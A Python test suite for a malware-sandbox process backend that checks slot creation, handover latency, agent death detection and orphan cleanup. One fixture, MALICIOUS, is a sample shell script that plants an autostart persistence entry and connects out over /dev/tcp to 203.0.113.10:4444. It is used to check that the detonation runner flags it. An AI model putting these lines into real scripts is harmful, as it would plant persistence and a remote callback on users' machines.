"""The process backend: real agent processes on /dev/shm pages, pre-warmed, destroyed without leftovers.

Needs bubblewrap/strace/ip (the backend's probe) and, for the end-to-end
detonations, ``mailvm.guest.detonate``.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from pathlib import Path
import textwrap
import time

import pytest

from mailvm.config import PoolConfig
from mailvm.guest import protocol as P
from mailvm.vmpool.backends import BACKENDS
from mailvm.vmpool.backends import process as process_backend
from mailvm.vmpool.backends.base import BackendError
from mailvm.procfs import cpu_seconds, group_members, process_tree
from mailvm.vmpool.backends.process import ISOLATION, ProcessBackend, sweep_orphans
from mailvm.vmpool.shmpage import HostPage, PageError
from backend_helpers import track_slots

pytestmark = pytest.mark.sandbox

PAGE = 8 << 20


def _skip_without_tools():
    why = ProcessBackend.probe(PoolConfig())
    if why:
        pytest.skip(why)


@pytest.fixture
def backend(tmp_path):
    """A prepared backend whose every slot is destroyed at teardown (and checked for leftovers)."""
    _skip_without_tools()
    cfg = PoolConfig(backend="process", work_dir=str(tmp_path / "pool"), page_bytes=PAGE, ready_timeout_s=30.0)
    b = ProcessBackend(cfg)
    b.prepare()
    made = track_slots(b)
    yield b
    for slot in made:
        slot.destroy()
        assert slot.leftovers() == []
    b.close()


def _running(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(") ", 1)[1][0] != "Z"
    except OSError:
        return False


def soon(s: float = 10.0) -> float:
    return time.monotonic() + s


def test_registry_probe_info():
    assert BACKENDS["process"] is ProcessBackend
    cfg = PoolConfig()
    info = ProcessBackend(cfg).info()
    assert info.name == "process" and info.isolation == ISOLATION and info.accel == "none"
    assert "weak" in info.isolation


def test_prepare_warns_about_weak_isolation(tmp_path, caplog):
    _skip_without_tools()
    b = ProcessBackend(PoolConfig(work_dir=str(tmp_path / "pool")))
    with caplog.at_level("WARNING"):
        b.prepare()
        b.prepare()  # once per backend
    warns = [r for r in caplog.records if r.levelname == "WARNING" and "namespaces only" in r.getMessage()]
    assert len(warns) == 1


def test_slot_is_prewarmed_idle_cheap_and_destroyed_cleanly(backend):
    slot = backend.create_slot("w1")
    assert slot.alive() and slot.page.state() == P.READY
    assert slot.ready_s < 30
    assert os.stat(slot.page.path).st_mode & 0o777 == 0o600
    pids = process_tree(slot.proc.pid)
    assert pids and pids[0] == slot.proc.pid
    if slot.pid_namespace:
        assert slot.page.agent_pid == 1 and len(pids) >= 2  # unshare + the agent as PID 1 of its namespace
    cpu0, t0 = cpu_seconds(pids), time.monotonic()
    hb0 = slot.page.heartbeat()
    time.sleep(2.0)
    used = (cpu_seconds(pids) - cpu0) / (time.monotonic() - t0)
    print(f"\nidle slot CPU: {used * 100:.2f} % of a core (pids {pids})")
    assert used < 0.05
    assert slot.page.heartbeat() > hb0  # idle, but alive
    page, slot_dir = slot.page.path, slot.slot_dir
    slot.destroy()
    slot.destroy()  # idempotent
    assert not slot.alive()
    assert not os.path.exists(page) and not os.path.exists(slot_dir)
    assert [p for p in pids if _running(p)] == []
    assert group_members(slot.pgid) == []


def test_handover_latency(backend):
    figures = []
    for i in range(3):
        slot = backend.create_slot(f"h{i}")
        t0 = time.perf_counter()
        slot.page.submit(b"#!/bin/sh\ntrue\n", "t.sh", {"timeout_s": 5})
        slot.ring()
        state = slot.page.wait_state({P.RUNNING, P.DONE, P.FAILED}, soon(), alive=slot.alive)
        figures.append((time.perf_counter() - t0) * 1000)
        assert state in (P.RUNNING, P.DONE, P.FAILED)
        slot.destroy()
    print(f"\nhand-over (submit+ring -> RUNNING): {', '.join(f'{f:.2f}' for f in figures)} ms")
    assert sorted(figures)[1] < 50  # generous: the target is < 2 ms


def test_killed_agent_is_detected_quickly(backend):
    slot = backend.create_slot("k1")
    slot.page.submit(b"x", "x", {})
    agent = process_tree(slot.proc.pid)[-1]
    os.kill(agent, signal.SIGKILL)
    t0 = time.monotonic()
    with pytest.raises(PageError, match="died"):
        slot.page.wait_state({P.DONE, P.FAILED}, soon(), alive=slot.alive)
    assert time.monotonic() - t0 < 1.0


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")
    except OSError:
        return b""


def test_the_agent_rings_back_and_a_killed_one_is_still_seen(backend):
    """The slot's doorbell back (answer_fd): the host blocks on it through the hand-over and the run;
    an agent killed mid-job closes it, and the slot's death is seen as quickly as without it."""
    slot = backend.create_slot("a1")
    try:
        fd = slot.answer_fd()
        assert fd is not None
        slot.page.submit(b"#!/bin/sh\necho rung back\n", "t.sh", {"timeout_s": 5})
        slot.ring()
        assert slot.page.wait_state({P.DONE, P.FAILED}, soon(30), alive=slot.alive, wake_fd=fd) == P.DONE
    finally:
        slot.destroy()
    slot = backend.create_slot("a2")
    try:
        slot.page.submit(b"#!/bin/sh\nsleep 30\n", "t.sh", {"timeout_s": 30})
        slot.ring()
        assert slot.page.wait_state({P.RUNNING, P.DONE, P.FAILED}, soon(), alive=slot.alive,
                                    wake_fd=slot.answer_fd()) == P.RUNNING
        agents = [p for p in process_tree(slot.proc.pid)
                  if _cmdline(p).startswith(sys.executable.encode()) and b"mailvm.guest.agent" in _cmdline(p)]
        assert len(agents) == 1, [_cmdline(p) for p in process_tree(slot.proc.pid)]
        os.kill(agents[0], signal.SIGKILL)
        t0 = time.monotonic()
        with pytest.raises(PageError, match="died"):
            slot.page.wait_state({P.DONE, P.FAILED}, soon(), alive=slot.alive, wake_fd=slot.answer_fd())
        assert time.monotonic() - t0 < 2.0
    finally:
        slot.destroy()


def test_agent_exits_when_the_host_closes_the_doorbell(backend):
    slot = backend.create_slot("d1")
    os.close(slot._wfd)
    slot._wfd = None
    slot.proc.wait(5)
    assert not slot.alive()


def test_page_that_cannot_be_created_is_a_backend_error(tmp_path):
    _skip_without_tools()
    cfg = PoolConfig(work_dir=str(tmp_path / "pool"), page_bytes=PAGE, ready_timeout_s=30.0)
    b = ProcessBackend(cfg, page_dir=str(tmp_path / "does-not-exist"))
    with pytest.raises(BackendError, match="cannot create"):
        b.create_slot("bad")
    assert os.listdir(tmp_path / "pool") == []


def test_agent_dying_before_ready_is_a_quick_backend_error(tmp_path, monkeypatch):
    _skip_without_tools()
    monkeypatch.setattr(process_backend, "AGENT_MODULE", "mailvm.guest.no_such_agent")
    cfg = PoolConfig(work_dir=str(tmp_path / "pool"), page_bytes=PAGE, ready_timeout_s=60.0)
    b = ProcessBackend(cfg)
    t0 = time.monotonic()
    with pytest.raises(BackendError, match="READY.*No module named"):
        b.create_slot("crash")
    assert time.monotonic() - t0 < 10  # the dead process is noticed, not the 60 s ready timeout
    assert os.listdir(tmp_path / "pool") == []
    assert not [f for f in os.listdir(b.page_dir) if f.startswith("mailvm-crash-")]


def test_poll_doorbell_slot(tmp_path):
    _skip_without_tools()
    cfg = PoolConfig(work_dir=str(tmp_path / "pool"), page_bytes=PAGE, ready_timeout_s=30.0)
    b = ProcessBackend(cfg, doorbell="poll:0.001:0.005")
    with b.lease("p1") as slot:
        slot.page.submit(b"x", "x.txt", {})
        slot.ring()  # a no-op: the agent polls
        assert slot.page.wait_state({P.RUNNING, P.DONE, P.FAILED}, soon(), alive=slot.alive) != P.READY
    assert slot.leftovers() == []


# -- end to end through the real detonation runner ----------------------------------------------
def _detonate_available() -> bool:
    try:
        import mailvm.guest.detonate  # noqa: F401
    except ImportError:
        return False
    return True


needs_detonate = pytest.mark.skipif(not _detonate_available(), reason="mailvm.guest.detonate not written yet")

BENIGN = b"#!/bin/sh\necho hello > greeting.txt\ncat greeting.txt\n"
MALICIOUS = textwrap.dedent("""\
    #!/bin/sh
    mkdir -p "$HOME/.config/autostart"
    printf '[Desktop Entry]\\nType=Application\\nExec=/tmp/.x\\n' > "$HOME/.config/autostart/x.desktop"
    exec 3<>/dev/tcp/203.0.113.10/4444 2>/dev/null || python3 -c 'import socket; s=socket.socket(); s.settimeout(3); s.connect(("203.0.113.10", 4444))'
    (setsid sleep 987654 &)
    """).encode()


def _detonate(backend, slot_id, data, name):
    slot = backend.create_slot(slot_id)
    t0 = time.monotonic()
    slot.page.submit(data, name, {"timeout_s": 30, "idle_s": 2, "stop_on_malicious": True, "max_result_bytes": 1 << 20})
    slot.ring()
    state = slot.page.wait_state({P.DONE, P.FAILED}, soon(90), alive=slot.alive, heartbeat_timeout=10)
    result = slot.page.read_result(1 << 20)
    print(f"\n{name}: {P.state_name(state)} {result['verdict']} {result['score']} in {time.monotonic() - t0:.1f} s:",
          [f["id"] for f in result["findings"]])
    return slot, state, result


@pytest.mark.slow
@needs_detonate
def test_end_to_end_benign_script(backend):
    slot, state, result = _detonate(backend, "e2e-benign", BENIGN, "hello.sh")
    assert state == P.DONE and not result["failed"]
    assert result["verdict"] == "clean", result["findings"]


@pytest.mark.slow
@needs_detonate
def test_end_to_end_malicious_script(backend):
    slot, state, result = _detonate(backend, "e2e-bad", MALICIOUS, "update.sh")
    assert state == P.DONE and not result["failed"]
    assert result["verdict"] == "malicious", result["findings"]
    details = " ".join(f["detail"] for f in result["findings"])
    assert "203.0.113.10" in details or "autostart" in details
    slot.destroy()
    assert slot.leftovers() == []
    stray = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"987654" in open(f"/proc/{pid}/cmdline", "rb").read():
                stray.append(pid)
        except OSError:
            pass
    assert stray == []


# -- a pool that dies -----------------------------------------------------------------------------
def test_killed_pool_agents_exit_and_orphans_are_swept(tmp_path):
    """SIGKILL the host process: its idle agents see the doorbell hang up; the next prepare() sweeps."""
    _skip_without_tools()
    work, pages = tmp_path / "pool", tmp_path / "shm"
    pages.mkdir()
    code = textwrap.dedent(f"""
        import sys, time
        from mailvm.config import PoolConfig
        from mailvm.vmpool.backends.process import ProcessBackend, process_tree
        b = ProcessBackend(PoolConfig(work_dir={str(work)!r}, page_bytes={PAGE}), page_dir={str(pages)!r})
        slots = [b.create_slot(f"o{{i}}") for i in range(2)]
        print(" ".join(str(p) for s in slots for p in process_tree(s.proc.pid)), flush=True)
        time.sleep(60)
        """)
    host = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        pids = [int(p) for p in host.stdout.readline().split()]
        assert len(pids) >= 2 and len(os.listdir(pages)) == 2
    finally:
        host.kill()
        host.wait()
    end = time.monotonic() + 5
    while time.monotonic() < end and any(_running(p) for p in pids):
        time.sleep(0.05)
    assert not any(_running(p) for p in pids)  # hang-up: nobody left to serve
    assert len(os.listdir(work)) == 2 and len(os.listdir(pages)) == 2  # but the files are still there
    assert sweep_orphans(str(work), str(pages), min_age_s=3600) == []  # too young to judge
    held = HostPage.attach(str(pages / sorted(os.listdir(pages))[0]), PAGE)  # someone still holds one
    try:
        removed = sweep_orphans(str(work), str(pages), min_age_s=0)
        assert len(removed) == 1 and len(os.listdir(pages)) == 1 and len(os.listdir(work)) == 1
    finally:
        held.close()
    assert len(sweep_orphans(str(work), str(pages), min_age_s=0)) == 1
    assert os.listdir(pages) == [] and os.listdir(work) == []
